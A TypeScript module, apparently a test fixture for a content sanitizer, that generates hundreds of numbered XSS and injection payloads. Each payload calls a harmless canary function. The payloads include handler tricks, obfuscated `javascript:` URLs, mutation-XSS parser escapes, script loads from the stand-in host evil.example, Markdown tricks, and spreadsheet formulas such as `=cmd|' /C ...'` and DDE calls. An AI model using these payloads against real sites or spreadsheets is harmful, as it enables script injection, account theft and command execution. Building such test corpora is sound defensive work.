/**
 * Texts by which contributed content has tried to run code on other sites, made from their parts: what carries the code, what
 * starts it, how it is written, and what a parser has to be tricked out of first. Each calls `canary` with its number.
 */

/** One attempt: its number, what it belongs to, and its text on one line. */
export interface Vector {
  readonly number: number;
  readonly group: string;
  readonly text: string;
}

export const evilHost = 'evil.example';

/** Makes the text of an attempt around its code, which has neither quotes nor spaces. */
type Make = (code: string, address: string) => string;
type Group = readonly [name: string, makers: readonly Make[]];

/** Elements that run a handler by themselves, with what they need for it. */
const carriers: readonly (readonly [element: string, attributes: string, events: readonly string[]])[] = [
  ['img', 'src=x', ['onerror', 'ONERROR', 'oNeRrOr']],
  ['image', 'src=x', ['onerror']],
  ['svg', '', ['onload', 'OnLoad']],
  ['body', '', ['onload', 'onpageshow', 'onfocus', 'onhashchange']],
  ['input', 'autofocus', ['onfocus', 'onfocusin']],
  ['select', 'autofocus', ['onfocus']],
  ['textarea', 'autofocus', ['onfocus']],
  ['button', 'autofocus', ['onfocus']],
  ['a', 'href=# autofocus', ['onfocus', 'onclick', 'onmouseover']],
  ['div', 'contenteditable autofocus', ['onfocus', 'onpointerenter', 'onanimationstart']],
  ['p', 'style=animation:a', ['onanimationstart', 'ontransitionend']],
  ['details', 'open', ['ontoggle']],
  ['video', 'src=x', ['onerror', 'onloadstart']],
  ['audio', 'src=x', ['onerror', 'onloadstart']],
  ['source', 'src=x', ['onerror']],
  ['iframe', 'src=about:blank', ['onload']],
  ['object', 'data=x', ['onerror', 'onload']],
  ['embed', 'src=x', ['onload']],
  ['link', 'rel=stylesheet href=x', ['onerror', 'onload']],
  ['script', 'src=x', ['onerror']],
  ['style', '', ['onload']],
  ['marquee', 'loop=1 width=0', ['onstart', 'onfinish']],
  ['math', 'tabindex=0 autofocus', ['onfocus']],
  ['x-own', 'tabindex=0 autofocus', ['onfocus']],
  ['dialog', 'open', ['onclose', 'onfocus']],
  ['frameset', '', ['onload']],
  ['form', '', ['onsubmit', 'onformdata']],
  ['track', 'src=x', ['onerror']],
];

const handlers: readonly Make[] = carriers.flatMap(([element, attributes, events]) =>
  events.map(
    (event): Make =>
      (code) =>
        `<${element} ${attributes} ${event}=${code}>`,
  ),
);

/** What may stand between the name of an element and its handler, and around the handler. */
const spellings: readonly Make[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `<img src=x onerror=\`${code}\`>`,
  (code) => `<img/src=x/onerror=${code}>`,
  (code) => `<img\tsrc=x\tonerror\t=\t${code}>`,
  (code) => `<img\fsrc=x\fonerror=${code}>`,
  (code) => `<img src=x onerror=${code}`,
  (code) => `<img src=x onerror=${code} <b>`,
  (code) => `<img src="x"onerror="${code}">`,
  (code) => `<img src='x'onerror=${code}>`,
  (code) => `<img """><img src=x onerror=${code}>">`,
  (code) => `<<img src=x onerror=${code}>`,
  (code) => `<IMG SRC=x ONERROR=${code}>`,
  (code) => `<img src=x:x onerror=&#${code.charCodeAt(0)};${code.slice(1)}>`,
  (code) => `<img src=x onerror=&#x${code.charCodeAt(0).toString(16)};${code.slice(1)}>`,
  (code) => `<img src=x onerror=&#0000${code.charCodeAt(0)}${code.slice(1)}>`,
  (code) => `<img src=x onerror=\\u0063${code.slice(1)}>`,
  (code) =>
    `<img src=x onerror=eval(String.fromCharCode(${[...code].map((letter) => letter.charCodeAt(0)).join(',')}))>`,
  (code) =>
    `<img src=x onerror=setTimeout(atob(/${Buffer.from(code).toString('base64').replaceAll('=', '')}/.source))>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin=${code} attributeName=x to=1>`,
  (code) => `<svg onload=${code}//`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<svg><svg onload=${code}>`,
];

const scripts: readonly Make[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<script/x>${code}</script>`,
  (code) => `<script\t>${code}</script\t>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script type=text/javascript>${code}</script>`,
  (code) => `<script async defer>${code}</script>`,
  (_code, address) => `<script src=${address}></script>`,
  (_code, address) => `<script src="//${address.slice(8)}"></script>`,
  (code) => `<script src=data:text/javascript,${code}></script>`,
  (code) => `<script src="data:;base64,${Buffer.from(code).toString('base64')}"></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href=data:,${code} /></svg>`,
  (code) => `<svg><script xlink:href=data:,${code}></script></svg>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) => `<script>/*<!--*/${code}//--></script>`,
  (code) => `<script><!--\n${code}\n--></script>`.replaceAll('\n', ' '),
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `<script nonce=x integrity=x>${code}</script>`,
  (code) => `<script id=__ASTRO__>${code}</script>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
];

/** How an address that runs code may be written so that a filter does not know it. */
const disguises: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java&Tab;script:${code}`,
  (code) => `java&NewLine;script:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `&#x6A;avascript:${code}`,
  (code) => `&#0000106avascript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `&#1;javascript:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript:%63${code.slice(1)}`,
  (code) => `javascript\\:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>parent.${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${code}"/>`,
  (code) => `blob:${code}`,
  (code) => `jar:javascript:${code}`,
  (code) => `livescript:${code}`,
];

/** What takes an address, in HTML and in Markdown. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `<${address}>`,
];
const rarePlaces: readonly ((address: string) => string)[] = [
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><a href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text y=9>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<map><area href="${address}" shape=default></map>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}//">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<table background="${address}"><td background="${address}">`,
  (address) => `<a ping="${address}" href=#>x</a>`,
  (address) => `![x](${address})`,
  (address) => `![x](${address} "x")`,
  (address) => `[x][y] [y]: ${address}`,
  (address) => `[x]( ${address} "title")`,
  (address) => `[![x](${address})](${address})`,
];

/** Where a text may stand, and what would end that. */
const ends: readonly string[] = [
  '">',
  "'>",
  '`>',
  '/>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '%>',
  '*/',
  '</script>',
  '</SCRIPT >',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</noembed>',
  '</noframes>',
  '</xmp>',
  '</plaintext>',
  '</select>',
  '</svg>',
  '</math>',
  '</table>',
  '</p></div></main></body></html>',
  '<!--<script>--></script>',
  '\\"}}]</script>',
  '\\u003c/script\\u003e',
];

const tricks: readonly Make[] = [
  (code) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<math></p><style><!--</style><img src=x onerror=${code}>--></style></math>`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;"></table></mtext></math>`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  (code) => `<noembed><p title="</noembed><img src=x onerror=${code}>">`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  (code) => `<textarea><p title="</textarea><img src=x onerror=${code}>">`,
  (code) => `<select><template><img src=x onerror=${code}></template></select>`,
  (code) => `<table><tr><img src=x onerror=${code}></tr></table>`,
  (code) => `<table><caption><svg><title><table><img src=x onerror=${code}>`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></foreignObject></svg>`,
  (code) => `<svg><![CDATA[><img src=x onerror=${code}>]]></svg>`,
  (code) => `<![CDATA[<img src=x onerror=${code}>]]>`,
  (code) => `<!--[if gte IE 4]><img src=x onerror=${code}><![endif]-->`,
  (code) => `<!-- --!><img src=x onerror=${code}> -->`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!doctype html [<!ENTITY x "<img src=x onerror=${code}>">]>&x;`,
  (code) => `<?xml version="1.0"?><?xml-stylesheet href="data:,${code}"?>`,
  (code) => `<?php echo 1 ?><img src=x onerror=${code}>`,
  (code) => `<title><img title="</title><img src=x onerror=${code}>">`,
  (code) => `<a href="x" title="&quot;><img src=x onerror=${code}>">x</a>`,
  (code) => `<b title='"><img src=x onerror=${code}>'>x</b>`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\u001B$B<script>\u001B(B${code}</script>`,
  (code) => `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
  (code) => `\u02C2img src=x onerror=${code}\u02C3`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  (code) => `&#x3c;img src=x onerror=${code}&#x3e;`,
  (code) => `&LT;img src=x onerror=${code}&GT;`,
  (code) => `%3Cimg src=x onerror=${code}%3E`,
  (code) => `%253Cimg src=x onerror=${code}%253E`,
  (code) => `\\x3cimg src=x onerror=${code}\\x3e`,
  (code) => `\u2028${code}\u2029<img src=x onerror=${code}>`,
  (code) => `\u202E<img src=x onerror=${code}>\u202C`,
  (code) => `\uFEFF<script>${code}</script>`,
  (code) => `<img\u00A0src=x onerror=${code}><img src=x onerror=${code}>`,
  (code) =>
    `<a id=defaultView name=canary href=cid:${code}>x</a><form id=config><input name=url value=javascript:${code}></form>`,
];

const styles: readonly Make[] = [
  (_code, address) => `<style>@import "${address}";</style>`,
  (_code, address) => `<style>body{background:url(${address})}</style>`,
  (_code, address) => `<p style="background:url(${address})">x</p>`,
  (code) => `<p style="width:expression(${code})">x</p>`,
  (_code, address) => `<p style="-moz-binding:url(${address})">x</p>`,
  (code) => `<div style="behavior:url(javascript:${code})">x</div>`,
  (_code, address) => `<link rel=stylesheet href=${address}>`,
  (_code, address) => `<link rel=prefetch href=${address}>`,
  (_code, address) => `<link rel=preconnect href=${address}>`,
  (_code, address) => `<link rel=manifest href=${address}>`,
  (_code, address) => `<img src=${address}>`,
  (_code, address) => `<img srcset="${address} 2x">`,
  (_code, address) => `<picture><source srcset=${address}><img></picture>`,
  (_code, address) => `<video poster=${address}></video>`,
  (_code, address) => `<audio src=${address} autoplay></audio>`,
  (_code, address) => `<iframe src=${address}></iframe>`,
  (_code, address) => `<object data=${address}></object>`,
  (_code, address) => `<svg><image href=${address} /></svg>`,
  (_code, address) => `<svg><use href=${address}#x /></svg>`,
  (_code, address) => `<svg><filter><feImage href=${address} /></filter></svg>`,
  (_code, address) => `<input type=image src=${address}>`,
  (_code, address) => `<body background=${address}>`,
  (_code, address) => `![x](${address})`,
  (_code, address) => `![x](//${address.slice(8)})`,
  (_code, address) => `![x][y] [y]: ${address}`,
];

const templates: readonly Make[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{{${code}}}}`,
  (code) => `\${${code}}`,
  (code) => `{${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `[[${code}]]`,
  (code) => `@{${code}}`,
  (code) => `<div set:html={${code}} v-html="${code}" ng-init="${code}" x-init="${code}" hx-on:load="${code}">x</div>`,
  (code) => `"};${code};//`,
  (code) => `';${code};//`,
  (code) => `\\';${code};//`,
  (code) => `\`;${code};//`,
  (code) => `*/${code}/*`,
  (code) => `\u2028${code}`,
];

const markdown: readonly Make[] = [
  (code) => `[x](x"onmouseover="${code}")`,
  (code) => `[x](x '"onmouseover="${code}')`,
  (code) => `![x"onerror="${code}](x)`,
  (code) => `![](x "onerror=${code}")`,
  (code) => `<https://x.example/"onmouseover="${code}>`,
  (code) => `https://x.example/"onmouseover="${code}`,
  (code) => `www.x.example/'onmouseover='${code}`,
  (code) => `x@x.example"onmouseover="${code}`,
  (code) => `[^"><img src=x onerror=${code}>]`,
  (code) => `## <img src=x onerror=${code}>`,
  (code) => `# x {#"><img src=x onerror=${code}>}`,
  (code) => `\`<img src=x onerror=${code}>\``,
  (code) => `\`\`\`"><img/src=x/onerror=${code}>`,
  (code) => `~~~ html "><script>${code}</script>`,
  (code) => `| <img src=x onerror=${code}> | x |`,
  (code) => `- [ ] <img src=x onerror=${code}>`,
  (code) => `> <img src=x onerror=${code}>`,
  (code) => `1. <script>${code}</script>`,
  (code) => `**<img src=x onerror=${code}>**`,
  (code) => `~~<img src=x onerror=${code}>~~`,
  (code) => `<b onclick=${code}>*x*</b>`,
  (code) => `\\<img src=x onerror=${code}>`,
  (code) => `    <script>${code}</script>`,
  (code) => `<details open ontoggle=${code}> **x** </details>`,
  (code) => `[x]: <javascript:${code}> "y"`,
  (code) => `[x](javascript:${code} 'y')`,
  (code) => `[x](data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')})`,
  (code) => `[x](\\javascript:${code})`,
  (code) => `[x](//evil.example/\\@${code})`,
  (code) => `[x](#"><img src=x onerror=${code}>)`,
  (code) => `[x](/actors/mallory/?"><img src=x onerror=${code}>)`,
  (code) => `[x](mailto:a@b.example?body="><img src=x onerror=${code}>)`,
];

const tables: readonly Make[] = [
  (code) => `=cmd|' /C ${code}'!A0`,
  (_code, address) => `=HYPERLINK("${address}","x")`,
  (_code, address) => `=IMPORTXML("${address}","//a")`,
  (_code, address) => `=IMAGE("${address}")`,
  (code) => `+${code}`,
  (code) => `-1+${code}`,
  (code) => `@SUM(${code})`,
  (code) => `\t=${code}`,
  (code) => `\r=${code}`,
  (code) => `\n=${code}`,
  (code) => ` =${code}`,
  (code) => `\uFF1D${code}`,
  (code) => `\uFF0B${code}`,
  (code) => `\uFF0D${code}`,
  (code) => `\uFF20${code}`,
  (code) => `";=${code};"`,
  (code) => `x",=${code},"`,
  (code) => `%=${code}`,
  (code) => `|${code}`,
  (code) => `DDE("cmd";"/C ${code}";"x")`,
];

const groups: readonly Group[] = [
  ['handler', handlers],
  ['spelling', spellings],
  ['script', scripts],
  [
    'address',
    disguises.flatMap((write) =>
      places.map(
        (place): Make =>
          (code) =>
            place(write(code)),
      ),
    ),
  ],
  [
    'rare address',
    rarePlaces.flatMap((place) =>
      [disguises[0], disguises[18]].map(
        (write): Make =>
          (code) =>
            place(write?.(code) ?? ''),
      ),
    ),
  ],
  [
    'end',
    ends.flatMap((end): readonly Make[] => [
      (code) => `${end}<img src=x onerror=${code}>`,
      (code) => `x${end}<script>${code}</script>`,
    ]),
  ],
  ['trick', tricks],
  ['load', styles],
  ['template', templates],
  ['markdown', markdown],
  ['table', tables],
];

/** All attempts, numbered from 1. */
export const vectors: readonly Vector[] = groups
  .flatMap(([group, makers]) => makers.map((make) => ({ group, make })))
  .map(({ group, make }, index) => {
    const number = index + 1;
    return { number, group, text: make(`canary(${number})`, `https://${evilHost}/${number}`) };
  });
